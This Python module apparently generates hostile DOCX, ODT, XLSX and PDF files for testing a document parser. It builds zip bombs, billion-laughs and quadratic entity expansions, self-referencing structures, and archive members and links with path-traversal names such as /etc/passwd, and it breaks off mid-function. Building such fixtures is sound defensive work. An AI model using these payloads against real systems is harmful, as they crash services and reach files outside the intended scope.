"""Makers of hostile files, each a function `make(folder) -> Path` whose docstring says what the attack is.

Where the format allows it, a file cites POST before what is hostile and FILM after it: who reads one without the other,
and says nothing, has lost something in silence. They cost little disk and time: bombs are packed by repetition.
"""

from __future__ import annotations

import base64
import os
import socket
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterable, Mapping
from itertools import accumulate
from pathlib import Path
from typing import TypeAlias

from openpyxl import Workbook  # type: ignore[import-untyped]

Make: TypeAlias = Callable[[Path], Path]
Trap: TypeAlias = Callable[[Path, str, Path], Path]  # an address that nobody may call, a file that nobody may touch

POST, POST_KEY = "https://www.instagram.com/p/DD_YsEltWzA/", "instagram:post:DD_YsEltWzA"
FILM, FILM_KEY = "https://youtu.be/YE7VzlLtp-4", "youtube:video:YE7VzlLtp-4"
SECRET = "the words of another file"  # noqa: S105 (those that external entities name)

GIGABYTE = 1 << 30
XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
OASIS = "urn:oasis:names:tc:opendocument:xmlns:"
ODT = "application/vnd.oasis.opendocument.text"

ATTACKS: dict[str, Make] = {}
TRAPS: dict[str, Trap] = {}


def attack(make: Make) -> Make:
    ATTACKS[make.__name__] = make
    return make


def trap(make: Trap) -> Trap:
    TRAPS[make.__name__] = make
    return make


def written(path: Path, content: bytes | str) -> Path:
    path.write_bytes(content if isinstance(content, bytes) else content.encode())
    return path


# --- packages --------------------------------------------------------------------------------------------------


def packed(path: Path, members: Mapping[str, bytes | str]) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as package:
        for name, content in members.items():
            package.writestr(name, content)
    return path


def changed(path: Path, members: Mapping[str, bytes | str]) -> Path:
    """The package with some of its members replaced, and others added."""
    with zipfile.ZipFile(path) as package:
        old = {name: package.read(name) for name in package.namelist()}
    return packed(path, {**old, **members})


class Member:
    """A member of an archive that is written by hand: its packed bytes, and what its header says of them."""

    def __init__(self, name: str, raw: bytes, crc: int, size: int, method: int = zipfile.ZIP_DEFLATED) -> None:
        self.name, self.raw, self.crc, self.size, self.method = name.encode(), raw, crc, size, method

    @classmethod
    def of(cls, name: str, content: bytes) -> Member:
        return cls(name, content, zlib.crc32(content), len(content), zipfile.ZIP_STORED)

    def local(self) -> bytes:
        return (
            b"PK\3\4"
            + struct.pack("<5H3I2H", 20, 0, self.method, 0, 33, *self._sizes(), len(self.name), 0)
            + (self.name + self.raw)
        )

    def central(self, offset: int) -> bytes:
        head = struct.pack("<6H3I5H2I", 20, 20, 0, self.method, 0, 33, *self._sizes(), len(self.name), *[0] * 5, offset)
        return b"PK\1\2" + head + self.name

    def _sizes(self) -> tuple[int, int, int]:
        return self.crc, len(self.raw), self.size


def archive(path: Path, members: Iterable[Member], offsets: Iterable[int] | None = None) -> Path:
    """An archive as it is told; `offsets` may let members overlap."""
    members = list(members)
    at = list(offsets or accumulate([0, *(len(member.local()) for member in members)]))
    first = dict(zip(reversed(at[: len(members)]), reversed(members), strict=True))
    body = b"".join(first[offset].local() for offset in sorted(first))
    directory = b"".join(member.central(offset) for member, offset in zip(members, at, strict=False))
    count, where = len(members), len(body)
    end = b""
    if count > 0xFFFE:  # ZIP64
        end = b"PK\6\6" + struct.pack("<Q2H2I4Q", 44, 45, 45, 0, 0, count, count, len(directory), where)
        end += b"PK\6\7" + struct.pack("<IQI", 0, where + len(directory), 1)
        count = 0xFFFF
    end += b"PK\5\6" + struct.pack("<4H2IH", 0, 0, count, count, len(directory), where, 0)
    return written(path, body + directory + end)


def deflated(before: bytes, filler: bytes, times: int, after: bytes) -> tuple[bytes, int, int]:
    """The packed bytes of `before`, many times `filler` and `after`; their checksum and size."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = packer.compress(before) + packer.flush(zlib.Z_FULL_FLUSH)
    body = packer.compress(filler) + packer.flush(zlib.Z_FULL_FLUSH)
    tail = packer.compress(after) + packer.flush()
    crc = zlib.crc32(before)
    for _ in range(times):
        crc = zlib.crc32(filler, crc)
    return head + body * times + tail, zlib.crc32(after, crc), len(before) + times * len(filler) + len(after)


def bomb(name: str, before: str, after: str, size: int = GIGABYTE) -> Member:
    filler = b" " * (16 << 20)
    return Member(name, *deflated(before.encode(), filler, size // len(filler), after.encode()))


# --- DOCX ------------------------------------------------------------------------------------------------------


def said(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def document_xml(body: str, doctype: str = "") -> str:
    return (
        f'{XML}{doctype}<w:document xmlns:w="{W}" xmlns:r="{R}" xmlns:xi="http://www.w3.org/2001/XInclude" '
        'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
        f"<w:body>{said(POST)}{body}{said(FILM)}</w:body></w:document>"
    )


def docx(path: Path, body: str = "", doctype: str = "", **more: bytes | str) -> Path:
    return packed(path, {**docx_parts(body, doctype), **more})


def docx_parts(body: str = "", doctype: str = "") -> dict[str, bytes | str]:
    main = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    types = "http://schemas.openxmlformats.org/package/2006/content-types"
    return {
        "[Content_Types].xml": f'{XML}<Types xmlns="{types}"><Default Extension="rels" ContentType="application/vnd.'
        'openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/word/document.xml" ContentType="{main}"/></Types>',
        "_rels/.rels": relations(f'<Relationship Id="r1" Type="{R}/officeDocument" Target="word/document.xml"/>'),
        "word/document.xml": document_xml(body, doctype),
    }


def relations(inside: str, doctype: str = "") -> str:
    return f'{XML}{doctype}<Relationships xmlns="{RELS}">{inside}</Relationships>'


@attack
def docx_of_blanks(folder: Path) -> Path:
    """One gigabyte of blanks in the text, packed into one megabyte."""
    before, after = document_xml("¦").split("¦")
    return archive(folder / "a.docx", [bomb("word/document.xml", before, after)])


@attack
def docx_with_a_lying_header(folder: Path) -> Path:
    """The header says a thousand bytes; the stream unpacks to a gigabyte."""
    member = bomb("word/document.xml", *document_xml("¦").split("¦"))
    member.size = 1000
    return archive(folder / "a.docx", [member])


@attack
def docx_with_a_bomb_beside_the_text(folder: Path) -> Path:
    """The text is small; a picture beside it, which nobody needs, unpacks to a gigabyte."""
    parts = [Member.of(name, text.encode()) for name, text in docx_parts().items() if isinstance(text, str)]
    return archive(folder / "a.docx", [*parts, bomb("word/media/image1.png", "", "")])


@attack
def docx_whose_members_overlap(folder: Path) -> Path:
    """A hundred thousand members that are all the same ten megabytes: a bomb that no single ratio gives away."""
    kernel = bomb("word/document.xml", *document_xml("¦").split("¦"), size=16 << 20)
    names = ["word/document.xml", *(f"word/{i:012}.xml" for i in range(100_000))]
    members = [Member(name, kernel.raw, kernel.crc, kernel.size) for name in names]
    return archive(folder / "a.docx", members, [0] * len(members))


@attack
def docx_with_100_000_members(folder: Path) -> Path:
    """A hundred thousand empty members beside an honest text."""
    parts = [Member.of(name, text.encode()) for name, text in docx_parts().items() if isinstance(text, str)]
    return archive(folder / "a.docx", [*parts, *(Member.of(f"word/{i}.xml", b"") for i in range(100_000))])


@attack
def docx_with_names_that_leave_it(folder: Path) -> Path:
    """Members and relationships named /etc/passwd, ../../x and C:\\x: nothing may be written or read there."""
    inside = "".join(
        f'<Relationship Id="n{i}" Type="{R}/{kind}" Target="{target}"/>'
        for i, (kind, target) in enumerate(
            [
                ("styles", "../../../../../../etc/passwd"),
                ("numbering", "/etc/passwd"),
                ("footnotes", "file:///etc/passwd"),
            ]
        )
    )
    names = ["/tmp/hostile.xml", "../../hostile.xml", "..\\hostile.xml", "C:\\hostile.xml", "word/../../hostile.xml"]  # noqa: S108
    return docx(
        folder / "a.docx", **{"word/_rels/document.xml.rels": relations(inside), **dict.fromkeys(names, "<x/>")}
    )


@attack
def zip_in_zip(folder: Path) -> Path:
    """Ten archives in an archive in an archive, 42.zip's way, that calls itself a report."""
    inner = bomb("0", "", "", 256 << 20)
    file = archive(folder / "inner.zip", [inner])
    for _ in range(3):
        content = file.read_bytes()
        file = packed(file, {f"{i}.zip": content for i in range(10)})
    return file.rename(folder / "a.docx")


def laughs(levels: int = 10) -> str:
    """Entities that each name the one before ten times: "lol" times 10^levels."""
    steps = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, levels + 1))
    return f'<!DOCTYPE x [<!ENTITY l0 "lol">{steps}]>'


@attack
def docx_of_a_billion_laughs(folder: Path) -> Path:
    """Entities within entities, in the text."""
    return docx(folder / "a.docx", said("&l10;"), laughs())


@attack
def docx_of_a_billion_laughs_in_an_attribute(folder: Path) -> Path:
    """Entities within entities in an attribute, where no parser can leave them as they are."""
    return docx(folder / "a.docx", '<w:p w:rsidR="&l10;"/>', laughs())


@attack
def docx_of_a_quadratic_blow_up(folder: Path) -> Path:
    """One entity of 50 kilobytes, named 50,000 times: two gigabytes without any nesting."""
    return docx(folder / "a.docx", said("&a;" * 50_000), f'<!DOCTYPE x [<!ENTITY a "{"a" * 50_000}">]>')


@attack
def docx_of_a_quadratic_blow_up_in_attributes(folder: Path) -> Path:
    """The same in 50,000 attributes."""
    return docx(folder / "a.docx", '<w:p w:rsidR="&a;"/>' * 50_000, f'<!DOCTYPE x [<!ENTITY a "{"a" * 50_000}">]>')


@attack
def docx_whose_entities_are_circular(folder: Path) -> Path:
    """Two entities that name each other."""
    return docx(folder / "a.docx", said("&a;"), '<!DOCTYPE x [<!ENTITY a "&b;"><!ENTITY b "&a;">]>')


@attack
def docx_with_laughing_relationships(folder: Path) -> Path:
    """The bomb is in the list of relationships, not in the text."""
    rels = relations('<Relationship Id="r1" Type="x" Target="&l10;" TargetMode="External"/>', laughs())
    return docx(folder / "a.docx", **{"word/_rels/document.xml.rels": rels})


@attack
def docx_of_empty_paragraphs(folder: Path) -> Path:
    """A hundred thousand paragraphs, each of six bytes in the file and some hundred in memory."""
    return docx(folder / "a.docx", "<w:p/>" * 100_000)


@attack
def docx_of_small_paragraphs(folder: Path) -> Path:
    """Forty thousand paragraphs of one number each."""
    return docx(folder / "a.docx", "".join(map(said, map(str, range(40_000)))))


@attack
def docx_of_a_million_relationships(folder: Path) -> Path:
    """A million relationships that nothing refers to."""
    inside = "".join([f'<Relationship Id="r{i}" Type="x" Target="y"/>' for i in range(1_000_000)])
    return docx(folder / "a.docx", **{"word/_rels/document.xml.rels": relations(inside)})


@attack
def docx_of_nested_tables(folder: Path) -> Path:
    """Three thousand tables, each in the cell of the one before."""
    return docx(folder / "a.docx", "<w:tbl><w:tr><w:tc>" * 3000 + said("x") + "</w:tc></w:tr></w:tbl>" * 3000)


@attack
def docx_of_fifty_nested_tables(folder: Path) -> Path:
    """Fifty tables, each in the cell of the one before, and an address in the last: Word allows that."""
    inside = said(POST.replace("zA", "zB"))
    return docx(folder / "a.docx", "<w:tbl><w:tr><w:tc>" * 50 + inside + "</w:tc></w:tr></w:tbl>" * 50)


@attack
def docx_of_nested_runs(folder: Path) -> Path:
    """A hundred thousand elements, each in the one before."""
    return docx(folder / "a.docx", "<w:p>" + "<w:ins>" * 100_000 + "</w:ins>" * 100_000 + "</w:p>")


@attack
def docx_whose_styles_are_circular(folder: Path) -> Path:
    """Each of two styles is based on the other, and each of two lists is the other's."""
    rels = "".join(
        f'<Relationship Id="{kind}" Type="{R}/{kind}" Target="{kind}.xml"/>' for kind in ("styles", "numbering")
    )
    styles = "".join(
        f'<w:style w:type="paragraph" w:styleId="{one}"><w:basedOn w:val="{other}"/><w:link w:val="{other}"/></w:style>'
        for one, other in ("AB", "BA", "CC")
    )
    numbering = "".join(
        f'<w:abstractNum w:abstractNumId="{one}"><w:numStyleLink w:val="{other}"/><w:styleLink w:val="{one}"/>'
        f'</w:abstractNum><w:num w:numId="{one}"><w:abstractNumId w:val="{other}"/></w:num>'
        for one, other in ("12", "21")
    )
    listed = "".join(
        f'<w:p><w:pPr><w:pStyle w:val="{style}"/><w:numPr><w:numId w:val="{number}"/></w:numPr></w:pPr></w:p>'
        for style, number in ("A1", "B2", "C3")
    )
    parts = {
        "word/_rels/document.xml.rels": relations(rels),
        "word/styles.xml": f'{XML}<w:styles xmlns:w="{W}">{styles}</w:styles>',
        "word/numbering.xml": f'{XML}<w:numbering xmlns:w="{W}">{numbering}</w:numbering>',
    }
    return docx(folder / "a.docx", listed, **parts)


@attack
def docx_whose_footnote_is_in_itself(folder: Path) -> Path:
    """A footnote that refers to itself, and two that refer to each other."""
    refer = '<w:p><w:r><w:footnoteReference w:id="{}"/></w:r></w:p>'
    notes = "".join(f'<w:footnote w:id="{one}">{refer.format(other)}</w:footnote>' for one, other in ("22", "34", "43"))
    rels = relations(f'<Relationship Id="n" Type="{R}/footnotes" Target="footnotes.xml"/>')
    parts = {
        "word/_rels/document.xml.rels": rels,
        "word/footnotes.xml": f'{XML}<w:footnotes xmlns:w="{W}">{notes}</w:footnotes>',
    }
    return docx(folder / "a.docx", refer.format(2) + refer.format(3), **parts)


@attack
def docx_whose_footnotes_multiply(folder: Path) -> Path:
    """Each footnote refers ten times to the next: ten thousand million paragraphs out of a hundred references."""
    notes = "".join(
        f'<w:footnote w:id="{i}"><w:p><w:r><w:t>x</w:t>{f"""<w:footnoteReference w:id="{i + 1}"/>""" * 10}</w:r></w:p>'
        "</w:footnote>"
        for i in range(2, 12)
    )
    rels = relations(f'<Relationship Id="n" Type="{R}/footnotes" Target="footnotes.xml"/>')
    parts = {
        "word/_rels/document.xml.rels": rels,
        "word/footnotes.xml": f'{XML}<w:footnotes xmlns:w="{W}">{notes}</w:footnotes>',
    }
    return docx(folder / "a.docx", '<w:p><w:r><w:footnoteReference w:id="2"/></w:r></w:p>', **parts)


@attack
def docx_whose_spans_are_absurd(folder: Path) -> Path:
    """A cell that spans 10^30 columns, another that spans -1, a third that spans "x"."""
    cells = "".join(
        f'<w:tc><w:tcPr><w:gridSpan w:val="{span}"/></w:tcPr>{said("x")}</w:tc>' for span in ("9" * 30, "-1", "x", "²")
    )
    return docx(folder / "a.docx", f"<w:tbl><w:tr>{cells}</w:tr></w:tbl>")


@attack
def docx_in_utf_7(folder: Path) -> Path:
    """The text says that it is written in an encoding that does not exist."""
    text = document_xml("").replace("UTF-8", "x-no-such-encoding")
    return docx(folder / "a.docx", **{"word/document.xml": text})


@attack
def docx_encrypted_member(folder: Path) -> Path:
    """The header says that the text is encrypted."""
    path = docx(folder / "a.docx")
    content = bytearray(path.read_bytes())
    at = content.rfind(b"PK\1\2")
    content[at + 8] |= 1
    return written(path, bytes(content))


# --- ODT -------------------------------------------------------------------------------------------------------


def odt(path: Path, body: str = "", doctype: str = "", **more: bytes | str) -> Path:
    named = {"office": "office", "text": "text", "table": "table", "draw": "drawing", "style": "style"}
    spaces = " ".join(f'xmlns:{name}="{OASIS}{long}:1.0"' for name, long in named.items())
    content = (
        f'{XML}{doctype}<office:document-content {spaces} xmlns:xlink="http://www.w3.org/1999/xlink"><office:body>'
        f"<office:text><text:p>{POST}</text:p>{body}<text:p>{FILM}</text:p></office:text></office:body>"
        "</office:document-content>"
    )
    return packed(path, {"mimetype": ODT, "content.xml": content, **more})


@attack
def odt_with_a_thousand_million_columns(folder: Path) -> Path:
    """A cell, a row and a blank that are each repeated 10^9 times."""
    much = 10**9
    body = (
        f'<table:table><table:table-row table:number-rows-repeated="{much}"><table:table-cell '
        f'table:number-columns-repeated="{much}"><text:p>x<text:s text:c="{much}"/>y</text:p></table:table-cell>'
        "</table:table-row></table:table>"
    )
    return odt(folder / "a.odt", body)


@attack
def odt_of_blanks_by_number(folder: Path) -> Path:
    """Two hundred thousand elements that each stand for 999,999 blanks."""
    return odt(folder / "a.odt", "<text:p>x" + '<text:s text:c="999999"/>' * 200_000 + "y</text:p>")


@attack
def odt_of_a_billion_laughs(folder: Path) -> Path:
    """Entities within entities."""
    return odt(folder / "a.odt", "<text:p>&l10;</text:p>", laughs())


@attack
def odt_of_nested_sections(folder: Path) -> Path:
    """Two hundred sections, each in the one before: LibreOffice would open it."""
    return odt(folder / "a.odt", "<text:section>" * 200 + "<text:p>x</text:p>" + "</text:section>" * 200)


@attack
def odt_of_nested_notes(folder: Path) -> Path:
    """Forty notes, each in the body of the one before: whoever looks for all notes below each meets 2^40 of them."""
    head, foot = "<text:p>x<text:note><text:note-body>", "</text:note-body></text:note></text:p>"
    return odt(folder / "a.odt", head * 40 + foot * 40)


@attack
def odt_whose_text_is_a_bomb(folder: Path) -> Path:
    """A gigabyte of blanks between two paragraphs."""
    content = zipfile.ZipFile(odt(folder / "a.odt", "<text:p>¦</text:p>")).read("content.xml").decode()
    members = [Member.of("mimetype", ODT.encode()), bomb("content.xml", *content.split("¦"))]
    return archive(folder / "a.odt", members)


# --- XLSX ------------------------------------------------------------------------------------------------------


def xlsx(path: Path, sheet: Callable[[str], str] | None = None, **more: bytes | str) -> Path:
    """A workbook of two rows; `sheet` changes the XML of its only sheet."""
    book = Workbook()
    book.active.append(["Activity", "Links"])
    book.active.append(["Activity 1. Clip", POST])
    book.active.append(["Activity 2. Film", FILM])
    book.save(path)
    where = "xl/worksheets/sheet1.xml"
    with zipfile.ZipFile(path) as package:
        text, types = package.read(where).decode(), package.read("[Content_Types].xml").decode()
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"
    if "xl/sharedStrings.xml" in more:
        strings = f'<Override PartName="/xl/sharedStrings.xml" ContentType="{kind}"/></Types>'
        types = types.replace("</Types>", strings)
    return changed(path, {where: sheet(text) if sheet else text, "[Content_Types].xml": types, **more})


def after_data(xml: str) -> Callable[[str], str]:
    return lambda text: text.replace("</sheetData>", f"</sheetData>{xml}")


@attack
def xlsx_that_claims_all_cells(folder: Path) -> Path:
    """Its dimension is the largest that the format allows, its last cell stands in the last corner."""

    def far(text: str) -> str:
        row = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData>'
        return text.replace("A1:B3", "A1:XFD1048576").replace("</sheetData>", row)

    return xlsx(folder / "a.xlsx", far)


@attack
def xlsx_whose_cells_are_all_merged(folder: Path) -> Path:
    """All 17 thousand million cells of a sheet are one, in 60 bytes."""
    return xlsx(folder / "a.xlsx", after_data('<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>'))


@attack
def xlsx_whose_cells_are_all_a_link(folder: Path) -> Path:
    """A hyperlink over all cells of a sheet."""
    rels = relations(f'<Relationship Id="h1" Type="{R}/hyperlink" Target="{POST}" TargetMode="External"/>')
    xml = f'<hyperlinks><hyperlink xmlns:r="{R}" ref="A1:XFD1048576" r:id="h1"/></hyperlinks>'
    return xlsx(folder / "a.xlsx", after_data(xml), **{"xl/worksheets/_rels/sheet1.xml.rels": rels})


@attack
def xlsx_whose_every_column_is_described(folder: Path) -> Path:
    """Column widths, validations and conditional formats over all cells."""

    def described(text: str) -> str:
        xml = '<conditionalFormatting sqref="A1:XFD1048576"/><dataValidations count="1"><dataValidation type="list" '
        xml += 'sqref="A1:XFD1048576"><formula1>"a"</formula1></dataValidation></dataValidations>'
        columns = '<cols><col min="1" max="16384" width="9"/></cols><sheetData>'
        return after_data(xml)(text.replace("<sheetData>", columns))

    return xlsx(folder / "a.xlsx", described)


@attack
def xlsx_of_one_long_string(folder: Path) -> Path:
    """A string of 32 kilobytes that 20,000 cells share: 650 megabytes of text."""
    strings = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    shared = "".join(f"<si><t>{text}</t></si>" for text in ("Activity", "Links", "x", POST, "lorem " * 5461, FILM))
    rows = "".join(f'<row r="{i}"><c r="A{i}" t="s"><v>4</v></c></row>' for i in range(4, 20_004))
    return xlsx(
        folder / "a.xlsx",
        lambda text: text.replace("</sheetData>", f"{rows}</sheetData>"),
        **{"xl/sharedStrings.xml": f'{XML}<sst xmlns="{strings}">{shared}</sst>'},
    )


@attack
def xlsx_of_a_billion_laughs(folder: Path) -> Path:
    """Entities within entities in a sheet."""
    return xlsx(
        folder / "a.xlsx",
        lambda text: laughs() + text.replace("</sheetData>", '<row r="9"><c r="A9"><v>&l10;</v></c></row></sheetData>'),
    )


@attack
def xlsx_of_laughing_strings(folder: Path) -> Path:
    """Entities within entities in the shared strings."""
    space = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    return xlsx(
        folder / "a.xlsx", **{"xl/sharedStrings.xml": f'{laughs()}<sst xmlns="{space}"><si><t>&l10;</t></si></sst>'}
    )


@attack
def xlsx_whose_sheet_is_a_bomb(folder: Path) -> Path:
    """A gigabyte of blanks in a sheet."""
    with zipfile.ZipFile(xlsx(folder / "a.xlsx")) as package:
        parts = {name: package.read(name) for name in package.namelist()}
    before, after = parts.pop("xl/worksheets/sheet1.xml").decode().split("</sheetData>")
    members = [Member.of(name, content) for name, content in parts.items()]
    return archive(folder / "a.xlsx", [*members, bomb("xl/worksheets/sheet1.xml", before, f"</sheetData>{after}")])


@attack
def xlsx_whose_sheet_is_a_bomb_by_another_name(folder: Path) -> Path:
    """A gigabyte of blanks in a sheet whose name ends in .bin, for whoever weighs only .xml."""
    with zipfile.ZipFile(xlsx(folder / "a.xlsx")) as package:
        parts = {name: package.read(name) for name in package.namelist()}
    before, after = parts.pop("xl/worksheets/sheet1.xml").decode().split("</sheetData>")
    members = [
        Member.of(name, content.replace(b"sheets/sheet1.xml", b"sheets/sheet1.bin")) for name, content in parts.items()
    ]
    return archive(folder / "a.xlsx", [*members, bomb("xl/worksheets/sheet1.bin", before, f"</sheetData>{after}")])


@attack
def xlsx_of_absurd_numbers(folder: Path) -> Path:
    """A date in the year 10^300, a number of 100,000 digits, a style that is not there."""
    cells = f'<c r="A9"><v>1e300</v></c><c r="B9" s="99999"><v>1</v></c><c r="C9"><v>{"9" * 100_000}</v></c>'
    cells += '<c r="D9" t="d"><v>99999-99-99</v></c><c r="E9"><v>NaN</v></c><c r="F9" t="s"><v>999999</v></c>'
    return xlsx(folder / "a.xlsx", lambda text: text.replace("</sheetData>", f'<row r="9">{cells}</row></sheetData>'))


# --- PDF -------------------------------------------------------------------------------------------------------


def pdf(path: Path, objects: Mapping[int, bytes | str], trailer: str = "") -> Path:
    """Objects by their number; the first is the catalogue."""
    content = b"%PDF-1.7\n"
    offsets = {}
    for number, value in objects.items():
        offsets[number] = len(content)
        content += b"%d 0 obj\n" % number + (value if isinstance(value, bytes) else value.encode()) + b"\nendobj\n"
    start = len(content)
    last = max(objects)
    lines = [b"0000000000 65535 f \n"]
    lines += [b"%010d %05d %s \n" % (offsets.get(i, 0), 0, b"n" if i in offsets else b"f") for i in range(1, last + 1)]
    content += b"xref\n0 %d\n" % (last + 1) + b"".join(lines)
    content += f"trailer\n<< /Size {last + 1} /Root 1 0 R {trailer}>>\nstartxref\n{start}\n%%EOF\n".encode()
    return written(path, content)


def stream(content: bytes | str, entries: str = "") -> bytes:
    content = content if isinstance(content, bytes) else content.encode()
    return f"<< /Length {len(content)} {entries}>>\nstream\n".encode() + content + b"\nendstream"


def shown(text: str, y: int = 700) -> str:
    return f"BT /F1 12 Tf 50 {y} Td ({text}) Tj ET\n"


FONT = "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def page(content: int, more: str = "", resources: str = "", box: str = "0 0 595 842") -> str:
    return (
        f"<< /Type /Page /Parent 2 0 R /MediaBox [{box}] /Contents {content} 0 R {more} "
        f"/Resources << /Font << /F1 5 0 R >> {resources} >> >>"
    )


def one_page(
    path: Path, drawn: str = "", more: str = "", resources: str = "", catalogue: str = "", box: str = "0 0 595 842",
    others: Mapping[int, bytes | str] | None = None,
) -> Path:  # fmt: skip
    """A page that cites POST, shows what is given, and cites FILM."""
    return pdf(path, {
        1: f"<< /Type /Catalog /Pages 2 0 R {catalogue} >>",
        2: "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: page(4, more, resources, box),
        4: stream(shown(POST) + drawn + "\n" + shown(FILM, 600)),
        5: FONT,
        **(others or {}),
    })  # fmt: skip


def form(content: str, resources: str = "") -> bytes:
    return stream(content, f"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << {resources} >> ")


@attack
def pdf_whose_pages_are_a_loop(folder: Path) -> Path:
    """The page tree has itself for a child, and its child has its parent for one."""
    return pdf(folder / "a.pdf", {
        1: "<< /Type /Catalog /Pages 2 0 R >>",
        2: "<< /Type /Pages /Kids [6 0 R 2 0 R 3 0 R] /Count 3 >>",
        3: page(4), 4: stream(shown(POST)), 5: FONT,
        6: "<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 6 0 R] /Count 2 >>",
    })  # fmt: skip


@attack
def pdf_that_claims_a_million_pages(folder: Path) -> Path:
    """It says that it has a million pages; one is there."""
    return pdf(folder / "a.pdf", {
        1: "<< /Type /Catalog /Pages 2 0 R >>", 2: "<< /Type /Pages /Kids [3 0 R] /Count 1000000 >>",
        3: page(4), 4: stream(shown(POST) + shown(FILM, 600)), 5: FONT,
    })  # fmt: skip


@attack
def pdf_of_one_page_three_thousand_times(folder: Path) -> Path:
    """The page tree names one page three thousand times."""
    return pdf(folder / "a.pdf", {
        1: "<< /Type /Catalog /Pages 2 0 R >>",
        2: f"<< /Type /Pages /Kids [{'3 0 R ' * 3_000}] /Count 3000 >>",
        3: page(4), 4: stream(shown(POST) + shown(FILM, 600)), 5: FONT,
    })  # fmt: skip


@attack
def pdf_whose_form_contains_itself(folder: Path) -> Path:
    """A form that draws itself."""
    inside = form("/X1 Do", "/XObject << /X1 6 0 R >>")
    return one_page(folder / "a.pdf", "/X1 Do", resources="/XObject << /X1 6 0 R >>", others={6: inside})


@attack
def pdf_whose_forms_multiply(folder: Path) -> Path:
    """Ten forms that each draw the next ten times: ten thousand million drawings."""
    forms: dict[int, bytes | str] = {i: form("/X1 Do " * 10, f"/XObject << /X1 {i + 1} 0 R >>") for i in range(6, 16)}
    forms[16] = form(shown("x"), "/Font << /F1 5 0 R >>")
    return one_page(folder / "a.pdf", "/X1 Do", resources="/XObject << /X1 6 0 R >>", others=forms)


def inflating(size: int) -> bytes:
    """A zlib stream of blanks."""
    raw, _, _ = deflated(b"", b" " * (16 << 20), size >> 24, b"")
    return b"\x78\xda" + raw + b"\0\0\0\0"


@attack
def pdf_whose_page_is_a_bomb(folder: Path) -> Path:
    """A page's content that unpacks to a gigabyte of blanks."""
    return pdf(folder / "a.pdf", {
        1: "<< /Type /Catalog /Pages 2 0 R >>", 2: "<< /Type /Pages /Kids [3 0 R 6 0 R] /Count 2 >>",
        3: page(4), 4: stream(shown(POST) + shown(FILM, 600)), 5: FONT,
        6: page(7), 7: stream(inflating(GIGABYTE), "/Filter /FlateDecode "),
    })  # fmt: skip


@attack
def pdf_packed_three_times(folder: Path) -> Path:
    """A content packed three times over: a gigabyte out of some kilobytes."""
    raw = zlib.compress(zlib.compress(inflating(GIGABYTE)))
    filters = "/Filter [/FlateDecode /FlateDecode /FlateDecode] "
    return pdf(folder / "a.pdf", {
        1: "<< /Type /Catalog /Pages 2 0 R >>", 2: "<< /Type /Pages /Kids [3 0 R 6 0 R] /Count 2 >>",
        3: page(4), 4: stream(shown(POST) + shown(FILM, 600)), 5: FONT, 6: page(7), 7: stream(raw, filters),
    })  # fmt: skip


@attack
def pdf_of_a_huge_page(folder: Path) -> Path:
    """A page of 10^9 by 10^9 points."""
    return one_page(folder / "a.pdf", box="-1000000000 -1000000000 1000000000 1000000000")


@attack
def pdf_whose_picture_is_huge(folder: Path) -> Path:
    """A picture that says it is 60,000 by 60,000 pixels, on a page with text."""
    entries = "/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /ColorSpace /DeviceRGB /BitsPerComponent 8 "
    picture = stream(inflating(256 << 20), entries + "/Filter /FlateDecode ")
    return one_page(folder / "a.pdf", "q 500 0 0 500 0 0 cm /I Do Q", resources="/XObject << /I 6 0 R >>",
                    others={6: picture})  # fmt: skip


@attack
def pdf_whose_objects_are_circular(folder: Path) -> Path:
    """A length, a box, a font, a list of contents, an annotation and a parent that each refer to themselves."""
    objects: dict[int, bytes | str] = {
        1: "<< /Type /Catalog /Pages 2 0 R /Outlines 9 0 R /AcroForm 9 0 R /Names 9 0 R >>",
        2: "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: "<< /Type /Page /Parent 3 0 R /MediaBox 6 0 R /Contents [4 0 R 7 0 R 11 0 R] /Annots [9 0 R 9 0 R] "
        "/Resources << /Font << /F1 5 0 R /F2 10 0 R >> >> >>",
        4: stream(shown(POST) + shown(FILM, 600)),
        5: FONT,
        6: "[6 0 R 6 0 R 6 0 R 6 0 R]",
        7: "[7 0 R]",
        8: "8 0 R",
        9: "<< /First 9 0 R /Next 9 0 R /Fields [9 0 R] /Kids [9 0 R] /Parent 9 0 R /Subtype /Link /A 9 0 R >>",
        10: "<< /Type /Font /Subtype /Type0 /BaseFont /X /DescendantFonts [10 0 R] /ToUnicode 10 0 R >>",
        11: stream(shown("x", 500).replace("F1", "F2")).replace(b"/Length ", b"/Length 8 0 R /X "),
    }
    return pdf(folder / "a.pdf", objects)


@attack
def pdf_whose_cross_references_are_a_loop(folder: Path) -> Path:
    """The table of objects names itself as the one before it."""
    path = one_page(folder / "a.pdf")
    content = path.read_bytes()
    at = content.rfind(b"xref\n0 ")
    return written(path, content.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev %d" % at))


@attack
def pdf_of_deep_brackets(folder: Path) -> Path:
    """A million opening brackets in an object, another million in a page's content."""
    return one_page(folder / "a.pdf", "[" * 1_000_000 + "]" * 1_000_000, others={6: "[" * 1_000_000})


@attack
def pdf_whose_letters_are_parted_by_rules(folder: Path) -> Path:
